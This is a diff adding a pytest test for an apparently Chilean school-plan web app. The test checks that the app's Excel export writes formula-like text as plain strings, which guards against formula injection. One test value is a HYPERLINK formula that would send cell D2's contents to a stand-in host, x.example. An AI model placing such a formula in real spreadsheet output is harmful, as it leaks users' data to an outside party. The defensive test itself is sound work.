@@ -1,0 +1,42 @@
+"""The PME workbook never carries a formula: action texts that start with
+= + - @ are string cells, amounts and progress stay numbers."""
+
+import io
+
+import pytest
+from openpyxl import load_workbook
+
+from pme import services
+from tests.factories import FundingLineFactory
+
+pytestmark = pytest.mark.django_db
+
+
+def test_plan_xlsx_writes_formula_like_text_as_strings(world, client):
+    action = world.action_a1
+    action.name = '=HYPERLINK("http://x.example/?d="&D2,"ver")'
+    action.description = "+1"
+    action.responsible = "@SUM(A1:A9)"
+    action.resources = "-2+3"
+    action.save()
+    FundingLineFactory(action=action, source="pie", amount=250_000)
+    services.record_progress(by=world.utp_a1, action=action, progress=30, note="=1+1")
+    client.force_login(world.director_a1)
+    response = client.get(f"/pme/plans/{world.plan_a1.pk}/export.xlsx")
+    assert response.status_code == 200
+    book = load_workbook(io.BytesIO(response.content))
+    header, row = list(book["Acciones"].iter_rows(max_row=2))
+    cells = dict(zip([c.value for c in header], row, strict=True))
+    for column, text in [
+        ("Acción", action.name),
+        ("Descripción", "+1"),
+        ("Responsable", "@SUM(A1:A9)"),
+        ("Recursos", "-2+3"),
+    ]:
+        assert cells[column].value == text and cells[column].data_type == "s"
+    assert cells["PIE (CLP)"].value == 250_000 and cells["PIE (CLP)"].data_type == "n"
+    assert cells["Avance (%)"].value == 30 and cells["Avance (%)"].data_type == "n"
+    note = book["Avances"]["D2"]
+    assert note.value == "=1+1" and note.data_type == "s"
+    for sheet in book:
+        assert not any(c.data_type == "f" for r in sheet.iter_rows() for c in r)
